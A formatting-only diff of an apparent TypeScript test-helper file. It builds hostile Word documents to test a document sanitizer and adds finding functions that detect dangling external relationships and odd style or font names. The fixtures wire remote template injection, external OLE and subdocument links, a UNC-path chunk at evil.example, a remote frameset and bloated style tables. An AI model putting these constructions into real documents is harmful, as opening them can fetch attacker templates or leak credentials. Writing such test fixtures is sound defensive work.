@@ -12,7 +12,9 @@ const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships
 const text = (bytes: Uint8Array | undefined) => Buffer.from(bytes ?? new Uint8Array()).toString('utf8');
 
 function addRelationships(rels: string | undefined, entries: string): string {
-  const base = rels ?? '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
+  const base =
+    rels ??
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
   return base.replace('</Relationships>', `${entries}</Relationships>`);
 }
 
@@ -38,9 +40,17 @@ export function hostileTemplate(base: Uint8Array): Uint8Array {
     parts[name] = strToU8(value);
   };
   const docRels = 'word/_rels/document.xml.rels';
-  put(docRels, addRelationships(parts[docRels] ? text(parts[docRels]) : undefined,
-    rel('rIdEvilOle', 'oleObject', `${EVIL}/ole.xlsx`) + rel('rIdEvilSub', 'subDocument', `${EVIL}/sub.docx`) +
-    rel('rIdEvilImg', 'image', `${EVIL}/pixel.png`) + rel('rIdKeptLink', 'hyperlink', SAFE_LINK) + rel('rIdEvilChunk', 'aFChunk', '\\\\evil.example\\share\\chunk.htm', false)));
+  put(
+    docRels,
+    addRelationships(
+      parts[docRels] ? text(parts[docRels]) : undefined,
+      rel('rIdEvilOle', 'oleObject', `${EVIL}/ole.xlsx`) +
+        rel('rIdEvilSub', 'subDocument', `${EVIL}/sub.docx`) +
+        rel('rIdEvilImg', 'image', `${EVIL}/pixel.png`) +
+        rel('rIdKeptLink', 'hyperlink', SAFE_LINK) +
+        rel('rIdEvilChunk', 'aFChunk', '\\\\evil.example\\share\\chunk.htm', false),
+    ),
+  );
   const body =
     '<w:p><w:r><w:t>{{content}}</w:t></w:r></w:p>' +
     `<w:p><w:pPr><w:pStyle w:val="${EVIL_STYLE_ID}"/></w:pPr><w:r><w:rPr><w:rFonts w:ascii="${EVIL_FONT}" w:hAnsi="${EVIL_FONT}"/></w:rPr><w:t>styled</w:t></w:r></w:p>` +
@@ -61,20 +71,49 @@ export function hostileTemplate(base: Uint8Array): Uint8Array {
   put('word/document.xml', `${doc.slice(0, bodyStart)}${body}${doc.slice(sectPr)}`);
 
   const settingsRels = 'word/_rels/settings.xml.rels';
-  put(settingsRels, addRelationships(parts[settingsRels] ? text(parts[settingsRels]) : undefined, rel('rIdEvilTpl', 'attachedTemplate', `${EVIL}/t1221.dotm`)));
+  put(
+    settingsRels,
+    addRelationships(
+      parts[settingsRels] ? text(parts[settingsRels]) : undefined,
+      rel('rIdEvilTpl', 'attachedTemplate', `${EVIL}/t1221.dotm`),
+    ),
+  );
   const settings = text(parts['word/settings.xml']);
-  const withNs = settings.includes('xmlns:r=') ? settings : settings.replace('<w:settings ', `<w:settings xmlns:r="${REL}" `);
+  const withNs = settings.includes('xmlns:r=')
+    ? settings
+    : settings.replace('<w:settings ', `<w:settings xmlns:r="${REL}" `);
   const at = withNs.indexOf('>', withNs.indexOf('<w:settings')) + 1;
   put('word/settings.xml', `${withNs.slice(0, at)}<w:attachedTemplate r:id="rIdEvilTpl"/>${withNs.slice(at)}`);
 
   // A frameset whose frame's source is remote (webSettings.xml, added when the template has none).
   const webRel = 'word/_rels/webSettings.xml.rels';
   if (!parts['word/webSettings.xml']) {
-    put(docRels, text(parts[docRels]).replace('</Relationships>', rel('rIdWebSettings', 'webSettings', 'webSettings.xml', false) + '</Relationships>'));
-    put('[Content_Types].xml', text(parts['[Content_Types].xml']).replace('</Types>', '<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/></Types>'));
+    put(
+      docRels,
+      text(parts[docRels]).replace(
+        '</Relationships>',
+        rel('rIdWebSettings', 'webSettings', 'webSettings.xml', false) + '</Relationships>',
+      ),
+    );
+    put(
+      '[Content_Types].xml',
+      text(parts['[Content_Types].xml']).replace(
+        '</Types>',
+        '<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/></Types>',
+      ),
+    );
   }
-  put('word/webSettings.xml', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:frameset><w:frame><w:name w:val="evil"/><w:sourceFileName r:id="rIdEvilFrame"/></w:frame></w:frameset></w:webSettings>`);
-  put(webRel, addRelationships(parts[webRel] ? text(parts[webRel]) : undefined, rel('rIdEvilFrame', 'frame', `${EVIL}/frame.htm`)));
+  put(
+    'word/webSettings.xml',
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:frameset><w:frame><w:name w:val="evil"/><w:sourceFileName r:id="rIdEvilFrame"/></w:frame></w:frameset></w:webSettings>`,
+  );
+  put(
+    webRel,
+    addRelationships(
+      parts[webRel] ? text(parts[webRel]) : undefined,
+      rel('rIdEvilFrame', 'frame', `${EVIL}/frame.htm`),
+    ),
+  );
 
   const styles = text(parts['word/styles.xml']);
   put(
@@ -89,7 +128,12 @@ export function hostileTemplate(base: Uint8Array): Uint8Array {
   const evilFont = `<w:font w:name="${EVIL_FONT}"><w:family w:val="auto"/></w:font>`;
   const fontsOpen = fonts.indexOf('>', fonts.indexOf('<w:fonts')) + 1;
   const selfClosing = fonts.charAt(fontsOpen - 2) === '/';
-  put('word/fontTable.xml', selfClosing ? `${fonts.slice(0, fontsOpen - 2)}>${evilFont}</w:fonts>` : `${fonts.slice(0, fontsOpen)}${evilFont}${fonts.slice(fontsOpen)}`);
+  put(
+    'word/fontTable.xml',
+    selfClosing
+      ? `${fonts.slice(0, fontsOpen - 2)}>${evilFont}</w:fonts>`
+      : `${fonts.slice(0, fontsOpen)}${evilFont}${fonts.slice(fontsOpen)}`,
+  );
 
   const types = text(parts['[Content_Types].xml']);
   if (!types.includes('Extension="rels"')) throw new Error('base template has no rels default');
@@ -125,7 +169,8 @@ export function externalFindings(docx: Uint8Array): string[] {
     for (const el of elements(strFromU8(ownerBytes))) {
       for (let i = 0; i < el.attributes.length; i++) {
         const attr = el.attributes.item(i);
-        if (attr?.namespaceURI === R_NS && !ids.has(attr.value)) found.push(`${owner}: ${el.tagName} ${attr.name}="${attr.value}" dangles`);
+        if (attr?.namespaceURI === R_NS && !ids.has(attr.value))
+          found.push(`${owner}: ${el.tagName} ${attr.name}="${attr.value}" dangles`);
       }
     }
   }
@@ -140,7 +185,12 @@ export function cssFindings(docx: Uint8Array): string[] {
     for (const el of elements(strFromU8(bytes))) {
       for (const attr of ['w:styleId', 'w:val']) {
         const value = el.getAttribute(attr);
-        if (value !== null && (attr === 'w:styleId' || /^(pStyle|rStyle|tblStyle|basedOn|next|link)$/.test(el.localName ?? '')) && !PLAIN_ID.test(value)) found.push(`${name}: ${el.tagName} ${value}`);
+        if (
+          value !== null &&
+          (attr === 'w:styleId' || /^(pStyle|rStyle|tblStyle|basedOn|next|link)$/.test(el.localName ?? '')) &&
+          !PLAIN_ID.test(value)
+        )
+          found.push(`${name}: ${el.tagName} ${value}`);
       }
       for (const attr of ['w:ascii', 'w:hAnsi', 'w:name', 'typeface']) {
         const value = el.getAttribute(attr);
@@ -151,13 +201,13 @@ export function cssFindings(docx: Uint8Array): string[] {
   return found;
 }
 
-
 /** The template with `count` extra paragraph styles (each a few dozen bytes: 400,000 make a ~35 MB styles.xml). */
 export function manyStyles(base: Uint8Array, count: number): Uint8Array {
   const parts = unzipSync(base);
   const styles = strFromU8(parts['word/styles.xml'] ?? new Uint8Array());
   const extra: string[] = [];
-  for (let i = 0; i < count; i++) extra.push(`<w:style w:type="paragraph" w:styleId="S${i}"><w:name w:val="S${i}"/></w:style>`);
+  for (let i = 0; i < count; i++)
+    extra.push(`<w:style w:type="paragraph" w:styleId="S${i}"><w:name w:val="S${i}"/></w:style>`);
   parts['word/styles.xml'] = strToU8(styles.replace('</w:styles>', `${extra.join('')}</w:styles>`));
   return zipSync(parts);
 }
@@ -169,11 +219,16 @@ export function manyNumberings(base: Uint8Array, count: number): Uint8Array {
   const abstract: string[] = [];
   const nums: string[] = [];
   for (let i = 0; i < count; i++) {
-    abstract.push(`<w:abstractNum w:abstractNumId="${9000 + i}"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl></w:abstractNum>`);
+    abstract.push(
+      `<w:abstractNum w:abstractNumId="${9000 + i}"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl></w:abstractNum>`,
+    );
     nums.push(`<w:num w:numId="${9000 + i}"><w:abstractNumId w:val="${9000 + i}"/></w:num>`);
   }
   const firstNum = numbering.indexOf('<w:num ');
-  const withAbstract = firstNum < 0 ? numbering.replace('</w:numbering>', `${abstract.join('')}</w:numbering>`) : `${numbering.slice(0, firstNum)}${abstract.join('')}${numbering.slice(firstNum)}`;
+  const withAbstract =
+    firstNum < 0
+      ? numbering.replace('</w:numbering>', `${abstract.join('')}</w:numbering>`)
+      : `${numbering.slice(0, firstNum)}${abstract.join('')}${numbering.slice(firstNum)}`;
   parts['word/numbering.xml'] = strToU8(withAbstract.replace('</w:numbering>', `${nums.join('')}</w:numbering>`));
   return zipSync(parts);
 }
@@ -203,6 +258,8 @@ export function renamePart(docx: Uint8Array, from: string, to: string): Uint8Arr
   const rels = 'word/_rels/document.xml.rels';
   parts[rels] = strToU8(strFromU8(parts[rels] ?? new Uint8Array()).replace(`Target="${from}"`, `Target="${to}"`));
   const types = '[Content_Types].xml';
-  parts[types] = strToU8(strFromU8(parts[types] ?? new Uint8Array()).replace(`PartName="/word/${from}"`, `PartName="/word/${to}"`));
+  parts[types] = strToU8(
+    strFromU8(parts[types] ?? new Uint8Array()).replace(`PartName="/word/${from}"`, `PartName="/word/${to}"`),
+  );
   return zipSync(parts);
 }
